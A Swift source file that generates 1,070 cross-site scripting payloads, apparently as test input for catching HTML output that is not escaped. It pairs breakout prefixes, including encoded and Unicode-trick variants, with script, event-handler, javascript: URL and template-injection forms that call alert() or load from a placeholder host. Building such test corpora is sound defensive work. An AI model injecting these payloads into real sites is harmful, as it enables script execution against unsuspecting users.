/// Texts that run a script, or change the page, in a program that writes them into HTML without escaping: each way to run one, behind
/// each way to break out of where the text stands.
enum ScriptPayloads {
  /// 1,070 texts, no two alike.
  static let all: [String] = Array(
    breakers.flatMap { breaker in ways.map { breaker + $0 } }.enumerated().map { index, text in
      text.replacing("0001", with: String(1000 + index))
    }.prefix(1070))

  private static let breakers = [
    "", "\"", "'", "`", ">", "\">", "'>", "`>", "\"\u{301}>", "'\u{308}>", "'\u{200D}>", "\"\u{200D} ", "\"\u{FE0F} ",
    "</textarea>",
    "</title>", "</script>", "</style>", "</option></select>", "</td></tr></table>", "</fieldset>", "-->", "]]>", "*/", "&quot;>",
    "&#34;&#62;", "\\\">", "<\u{301}b>", "%22%3E", "＂＞", "x\u{2028}",
  ]

  private static let ways = [
    "<script>alert(0001)</script>", "<img src=x onerror=alert(0001)>", "<img src=x onerror=\"alert(0001)\" ",
    "<svg onload=alert(0001)>",
    "<svg><script>alert(0001)</script></svg>", "<svg><a xlink:href=\"javascript:alert(0001)\"><text>x</text></a></svg>",
    "<a href=\"javascript:alert(0001)\">x</a>", "<iframe src=javascript:alert(0001)></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(0001)</script>\"></iframe>", "<body onload=alert(0001)>",
    "<input autofocus onfocus=alert(0001)>", "<details open ontoggle=alert(0001)>", "<video><source onerror=alert(0001)></video>",
    "<audio src onerror=alert(0001)>", "<object data=javascript:alert(0001)></object>", "<embed src=javascript:alert(0001)>",
    "<form><button formaction=javascript:alert(0001)>x</button></form>",
    "<math><mtext><style><img src onerror=alert(0001)></style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(0001)\">", "<base href=//voorbeeld.invalid/0001/>",
    "<link rel=stylesheet href=//voorbeeld.invalid/0001>", "<style>@import '//voorbeeld.invalid/0001';</style>",
    "<style>*{background:url(//voorbeeld.invalid/0001)}</style>", "<template><script>alert(0001)</script></template>",
    "<noscript><p title=\"</noscript><img src onerror=alert(0001)>\">", "<!--<img src=\"--><img src onerror=alert(0001)//\">",
    " onmouseover=alert(0001) x=", " autofocus onfocus=alert(0001) x=", " style=background:url(//voorbeeld.invalid/0001) x=",
    "javascript:alert(0001)", "data:text/html,<script>alert(0001)</script>", "{{constructor.constructor('alert(0001)')()}}",
    "{{{words}}}0001", "${alert(0001)}", "<textarea><script>alert(0001)</script>", "<plaintext>0001", "<xmp><p>0001",
  ]
}
